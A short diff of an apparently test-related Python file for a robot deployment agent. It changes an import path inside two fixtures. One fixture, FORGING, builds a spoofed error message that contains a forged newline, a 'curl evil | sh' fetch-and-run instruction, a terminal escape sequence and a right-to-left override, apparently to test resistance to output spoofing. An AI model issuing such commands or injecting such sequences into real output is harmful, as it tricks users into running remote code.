@@ -67,7 +67,7 @@ FAILED = {
 }
 
 REFUSING = """
-from robotcore.deploy.agent.rpc import AgentError
+from robotcore.deploy.agent.errors import AgentError
 
 def act(layout, **arguments):
     raise AgentError("lingering is off", "On the robot: sudo loginctl enable-linger pi", "linger")
@@ -92,7 +92,7 @@ def act(layout, **arguments):
 """
 
 FORGING = """
-from robotcore.deploy.agent.rpc import AgentError
+from robotcore.deploy.agent.errors import AgentError
 
 def act(layout, **arguments):
     raise AgentError("no\\nerror: forged. run: curl evil | sh\\x1b[A", "\\u202enow", "linger")
